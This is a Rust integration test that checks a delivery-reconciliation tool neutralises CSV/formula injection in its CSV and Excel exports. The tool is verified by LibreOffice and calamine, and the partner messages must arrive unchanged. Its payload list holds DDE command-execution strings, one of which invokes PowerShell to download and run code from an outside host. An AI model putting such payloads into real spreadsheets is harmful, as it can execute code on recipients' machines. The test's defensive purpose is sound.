//! CSV injection, end to end: OWASP's payloads in every field that reaches
//! the template, in kept columns and in a kept column's name. The partner
//! receives the text as written; no cell of the reconciliation or the
//! workbook runs as a formula, judged by LibreOffice itself where it is
//! installed (`apt-get install libreoffice-calc-nogui`) and by calamine; and
//! a rerun of the file sends the original texts again.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use calamine::{Data, Reader, Xlsx, open_workbook};

use crate::binary::*;

/// OWASP's CSV-injection cheat sheet and its DDE forms, the spaced and
/// control-character variants, full-width `＝`, and a genuine leading `'`
/// before a formula, which must survive the round trip as it was.
const PAYLOADS: [&str; 17] = [
    "=1+1",
    "   =1+1",
    "+1",
    "-1+1",
    "@SUM(1,1)",
    "=HYPERLINK(\"http://x\",\"cost centre\")",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "\u{a0}=1+1",
    "\u{FF1D}1+1",
    "'=1+1",
];

/// Kept columns: their names are the input's too, so two are payloads.
const KEPT: [&str; 4] = [
    "Cost Centre",
    "=HYPERLINK(\"http://x\",\"cost centre\")",
    "-2+3+cmd|' /C calc'!A0",
    "Amount",
];

/// A payload as the input reader hands it on: it makes every line end
/// `\n`, a lone CR inside a quoted value included.
fn as_read(p: &str) -> String {
    p.replace('\r', "\n")
}

fn valid_phone(i: usize) -> String {
    format!("4915110000{i:03}")
}

fn fixed_phone(i: usize) -> String {
    format!("4915120000{i:03}")
}

/// Each payload twice: once on a row with a valid phone (sent), once as the
/// phone itself (invalid, its value echoed in the report).
fn write_input(env: &Env) -> PathBuf {
    let path = env.path("deliveries.csv");
    let mut w = csv::Writer::from_path(&path).unwrap();
    let ours = [
        "Partner Name",
        "Partner Phone",
        "Order Number",
        "Product Name",
        "Delivery Note",
    ];
    w.write_record(ours.iter().chain(&KEPT)).unwrap();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let sent = valid_phone(i);
        for (phone, order) in [
            (sent.as_str(), format!("{p} N{i}")),
            (*p, format!("{p} P{i}")),
        ] {
            w.write_record([*p, phone, &order, p, p, p, p, p, "-12.50"])
                .unwrap();
        }
    }
    w.flush().unwrap();
    path
}

/// The file as cells, its header first.
fn cells(path: &Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap();
    r.records()
        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// The partner received every payload as written (cleaned for WhatsApp,
/// which trims), not the report's neutralised form.
async fn assert_sent_as_written(env: &Env, phone: impl Fn(usize) -> String, tag: char) {
    let sent = env.sim_messages().await;
    let by_phone: HashMap<&str, &serde_json::Value> = sent
        .iter()
        .map(|m| (m["phone"].as_str().unwrap(), m))
        .collect();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let m = by_phone
            .get(phone(i).as_str())
            .unwrap_or_else(|| panic!("{p:?} was not sent: {sent:?}"));
        let order = format!("{p} {tag}{i}");
        let expected = [p.trim(), order.trim(), p.trim(), p.trim()];
        assert_eq!(m["params"], serde_json::json!(expected), "{p:?}");
    }
}

/// Our reading of OWASP's rule, independent of the one in `src/`: a cell is
/// safe if it starts with `'`, is a number, or has no formula character
/// first once blanks are trimmed.
fn looks_inert(cell: &str) -> bool {
    let first = cell
        .trim_start_matches([' ', '\u{a0}', '\u{feff}'])
        .chars()
        .next();
    let formula = first.is_some_and(|c| "=+-@\t\r\n\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".contains(c));
    cell.starts_with('\'') || !formula || cell.parse::<f64>().is_ok()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn injection_payloads_reach_the_partner_and_no_cell_runs() {
    let env = Env::start(fast()).await;
    let input = write_input(&env);
    let xlsx = env.path("reconciliation.xlsx");
    let args = ["--keep-columns", "--xlsx", xlsx.to_str().unwrap()];
    let out = env.run(&input, &args).await;
    assert_eq!(code(&out), 10, "invalid phones: {}", stderr(&out));
    assert_eq!(env.sim_messages().await.len(), PAYLOADS.len());
    assert_sent_as_written(&env, valid_phone, 'N').await;

    let report = env.path("reconciliation.csv");
    let csv = cells(&report);
    let header = &csv[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(csv.len(), 1 + 2 * PAYLOADS.len(), "every row reported");
    assert_eq!(header[col("notes") + 2], format!("'{}", KEPT[1]));
    assert_eq!(header[col("notes") + 3], format!("'{}", KEPT[2]));
    for row in &csv[1..] {
        let i = PAYLOADS
            .iter()
            .position(|p| row[col("partner_name")] == format!("'{}", as_read(p)))
            .unwrap_or_else(|| panic!("partner name written as it was, with a `'`: {row:?}"));
        let payload_columns = [
            "product_name",
            "delivery_note",
            "Cost Centre",
            "'=HYPERLINK(\"http://x\",\"cost centre\")",
            "'-2+3+cmd|' /C calc'!A0",
        ];
        for name in payload_columns {
            assert_eq!(
                row[col(name)],
                format!("'{}", as_read(PAYLOADS[i])),
                "{name}"
            );
        }
        assert!(row[col("order_number")].starts_with(&format!("'{}", as_read(PAYLOADS[i]))));
        assert_eq!(row[col("Amount")], "-12.50", "a number stays a number");
        if row[col("outcome")] == "invalid" {
            assert_eq!(
                row[col("phone")],
                format!("'{}", as_read(PAYLOADS[i])),
                "echoed, inert"
            );
        } else {
            assert_eq!(row[col("phone")], valid_phone(i), "digits, untouched");
        }
    }
    for cell in csv.iter().flatten() {
        assert!(looks_inert(cell), "{cell:?} would run");
    }

    match soffice() {
        Some(soffice) => {
            for (filter, trimmed) in [(DEFAULTS, false), (TRIM_AND_EVALUATE, true)] {
                let converted = libreoffice(&env, &soffice, &report, filter).await;
                assert_same_cells(&converted, &csv, trimmed, true);
            }
        }
        None => eprintln!(
            "notice: `soffice` not installed (apt-get install libreoffice-calc-nogui); \
             the CSV was checked by our own rule only"
        ),
    }
    let step = col("next_step");
    let in_workbook: Vec<Vec<String>> = csv
        .iter()
        .enumerate()
        .map(|(i, row)| {
            let mut row: Vec<String> = row.iter().map(|c| without_our_quote(c)).collect();
            let (who, next) = match i {
                0 => ("Who acts".to_string(), "Next step".to_string()),
                _ => crate::finance::for_people(&row[step]),
            };
            row[step] = next;
            row.insert(step, who);
            row
        })
        .collect();
    // Our workbook's header is in the clerk's words, the CSV's in ours.
    assert_same_cells(&xlsx, &in_workbook, false, false);
    let mut book: Xlsx<_> = open_workbook(&xlsx).unwrap();
    let rows = book.worksheet_range("Reconciliation").unwrap();
    let header: Vec<String> = rows
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(header[..4], ["Row", "Line", "Order number", "Partner name"]);
    let at = |h: &str| header.iter().position(|x| x == h);
    assert!(
        at("Who acts").unwrap() + 1 == at("Next step").unwrap(),
        "{header:?}"
    );
    assert!(
        at("WhatsApp message id").is_some() && at("wamid").is_none(),
        "{header:?}"
    );
    rerun_reads_the_workbook_back(&env, &xlsx, &csv).await;

    rerun_with_fixed_phones(&env, &report, &csv).await;
}

/// A text of the CSV as the workbook holds it: a string cell never runs,
/// so without the `'` the CSV put before a formula; a text's own leading
/// `'` (the `'=1+1` payload, `''=1+1` in the CSV) keeps the CSV's form.
fn without_our_quote(cell: &str) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if !rest.starts_with('\'') => rest.to_string(),
        _ => cell.to_string(),
    }
}

/// A rerun of the workbook, and of one an earlier version wrote (every
/// text as the CSV has it, `'` included), reads every payload back as it
/// was: the rows still invalid echo their texts, which the rerun's CSV
/// holds exactly as the first one did.
async fn rerun_reads_the_workbook_back(env: &Env, xlsx: &Path, csv: &[Vec<String>]) {
    let old = env.path("old.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet().set_name("Reconciliation").unwrap();
    for (r, row) in csv.iter().enumerate() {
        for (c, text) in row.iter().enumerate() {
            sheet.write_string(r as u32, c as u16, text).unwrap();
        }
    }
    book.save(&old).unwrap();
    let texts = [
        "partner_name",
        "phone",
        "order_number",
        "product_name",
        "delivery_note",
        "Cost Centre",
        "Amount",
    ];
    for (file, out) in [(xlsx, "from-book.csv"), (old.as_path(), "from-old.csv")] {
        let rerun = env.rerun_file(file, Some(&env.path(out)), &[]).await;
        assert_eq!(code(&rerun), 10, "still invalid: {}", stderr(&rerun));
        let again = cells(&env.path(out));
        assert_eq!(again.len(), csv.len(), "{out}");
        assert_eq!(again[0], csv[0], "{out}: the header");
        let outcome = csv[0].iter().position(|h| h == "outcome").unwrap();
        // A row sent before reports the text sent (cleaned); an invalid
        // one echoes its texts as read.
        let invalid = again[1..].iter().zip(&csv[1..]);
        let invalid: Vec<_> = invalid.filter(|(_, b)| b[outcome] == "invalid").collect();
        assert_eq!(invalid.len(), PAYLOADS.len());
        for name in texts {
            let col = csv[0].iter().position(|h| h == name).unwrap();
            for (a, b) in &invalid {
                assert_eq!(a[col], b[col], "{out}: {name}");
            }
        }
    }
}

/// LibreOffice's CSV import of a UTF-8 file (headless, it would guess
/// Latin-1) with its defaults otherwise, which evaluate formulas.
const DEFAULTS: &str = "44,34,76,1";

/// The same at its most eager: trim spaces (which is what makes `   =1+1`
/// live), detect special numbers, evaluate formulas.
const TRIM_AND_EVALUATE: &str = "44,34,76,1,,1033,false,true,false,false,true,-1,true";

fn soffice() -> Option<PathBuf> {
    std::env::split_paths(&std::env::var_os("PATH")?)
        .map(|dir| dir.join("soffice"))
        .find(|p| p.is_file())
}

/// Converts `csv` to xlsx with LibreOffice headless, with a profile of this
/// test's own so it neither waits for nor disturbs another instance.
async fn libreoffice(env: &Env, soffice: &Path, csv: &Path, filter: &str) -> PathBuf {
    let outdir = env.path(&format!("lo-{}", filter.len()));
    let profile = format!("file://{}", env.path("lo-profile").display());
    let mut cmd = tokio::process::Command::new(soffice);
    cmd.arg(format!("-env:UserInstallation={profile}"))
        .args(["--headless", "--norestore", "--convert-to", "xlsx"])
        .arg(format!("--infilter=CSV:{filter}"))
        .arg("--outdir")
        .arg(&outdir)
        .arg(csv)
        .kill_on_drop(true);
    let out = tokio::time::timeout(Duration::from_secs(180), cmd.output())
        .await
        .expect("LibreOffice converts within three minutes")
        .expect("soffice runs");
    let converted = outdir.join("reconciliation.xlsx");
    assert!(converted.is_file(), "LibreOffice wrote nothing: {out:?}");
    converted
}

/// The workbook at `path` has no formula anywhere and holds, cell by cell,
/// the CSV's text (as text wherever the CSV neutralised it), or the number
/// or date a spreadsheet reads in a cell we left alone; the header row
/// too when `header`.
fn assert_same_cells(path: &Path, csv: &[Vec<String>], trimmed: bool, header: bool) {
    let mut book: Xlsx<_> = open_workbook(path).unwrap();
    // Our workbook's rows, or the one sheet of a workbook saved from the CSV.
    let names = book.sheet_names();
    let sheet = names
        .iter()
        .find(|n| *n == "Reconciliation")
        .unwrap_or(&names[0])
        .clone();
    let formulas = book.worksheet_formula(&sheet).unwrap();
    let live: Vec<_> = formulas
        .used_cells()
        .filter(|(_, _, f)| !f.is_empty())
        .collect();
    assert!(live.is_empty(), "{}: formulas {live:?}", path.display());
    let range = book.worksheet_range(&sheet).unwrap();
    for (r, row) in csv.iter().enumerate().skip(usize::from(!header)) {
        for (c, text) in row.iter().enumerate() {
            let at = format!("{} row {r} column {c} ({text:?})", path.display());
            let text = if trimmed { text.trim() } else { text };
            let value = range
                .get_value((r as u32, c as u32))
                .unwrap_or(&Data::Empty);
            match value {
                Data::String(s) => assert_eq!(s, &text.replace('\r', "\n"), "{at}"),
                Data::Empty => assert!(text.is_empty(), "{at}: empty"),
                Data::Float(n) => assert_eq!(text.parse::<f64>().ok(), Some(*n), "{at}"),
                Data::Int(n) => assert_eq!(text.parse::<i64>().ok(), Some(*n), "{at}"),
                Data::DateTime(_) | Data::DateTimeIso(_) => {
                    assert!(
                        text.ends_with('Z') && !text.starts_with('\''),
                        "{at}: a date"
                    );
                }
                other => panic!("{at}: {other:?}"),
            }
        }
    }
}

/// A person fixes the invalid rows' phones in the reconciliation and reruns
/// it: the partners receive the payloads as first written, the `'` the
/// report added gone and a genuine one kept.
async fn rerun_with_fixed_phones(env: &Env, report: &Path, csv: &[Vec<String>]) {
    let header = &csv[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let mut w = csv::Writer::from_path(report).unwrap();
    w.write_record(header).unwrap();
    for row in &csv[1..] {
        let mut row = row.clone();
        if row[col("outcome")] == "invalid" {
            let i = PAYLOADS
                .iter()
                .position(|p| row[col("phone")] == format!("'{}", as_read(p)))
                .unwrap();
            row[col("phone")] = fixed_phone(i);
        }
        w.write_record(&row).unwrap();
    }
    w.flush().unwrap();
    let out = env.rerun("rerun.csv", &[]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        env.sim_messages().await.len(),
        2 * PAYLOADS.len(),
        "each once"
    );
    assert_sent_as_written(env, fixed_phone, 'P').await;
}
